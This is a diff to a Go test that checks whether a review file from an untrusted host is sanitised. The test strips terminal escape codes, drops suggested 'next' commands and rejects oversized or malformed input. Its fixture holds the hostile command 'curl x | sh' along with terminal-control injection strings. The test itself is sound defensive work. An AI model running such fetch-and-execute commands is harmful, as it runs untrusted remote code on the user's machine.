@@ -168,9 +168,12 @@ func TestMemberHolds(t *testing.T) {
 
 // A review that a stolen host sends reaches no terminal unclean.
 func TestForeign(t *testing.T) {
-	doc, err := foreign([]byte(`{"schema":"connwarden.review/1","host":"x\u001b[2J","findings":[{"title":"\u0007"}],"peers":[{"addr":"\u001b]0;x\u0007"}]}`))
+	doc, err := foreign([]byte(`{"schema":"connwarden.review/1","host":"x\u001b[2J","findings":[{"title":"\u0007","next":["curl x | sh"]}],"peers":[{"addr":"\u001b]0;x\u0007","next":["connwarden leave"]}]}`))
 	if err != nil {
 		t.Fatal(err)
+	}
+	if doc.Findings[0].Next != nil || doc.Peers[0].Next != nil {
+		t.Errorf("it has us type %q %q", doc.Findings[0].Next, doc.Peers[0].Next)
 	}
 	for _, text := range []string{doc.Host, doc.Findings[0].Title, doc.Peers[0].Addr} {
 		if strings.ContainsAny(text, "\x1b\x07") {
@@ -179,6 +182,11 @@ func TestForeign(t *testing.T) {
 	}
 	if _, err := foreign([]byte(`{"host":7}`)); err == nil {
 		t.Error("a number is a host's name")
+	}
+	for _, text := range []string{`{"peers":[` + strings.Repeat("{},", maxObjects) + `{}]}`, "[" + strings.Repeat("0,", maxTokens) + "0]", `{"a":1`} {
+		if _, err := foreign([]byte(text)); err == nil {
+			t.Errorf("%d bytes that begin with %s are a review", len(text), text[:6])
+		}
 	}
 }
 
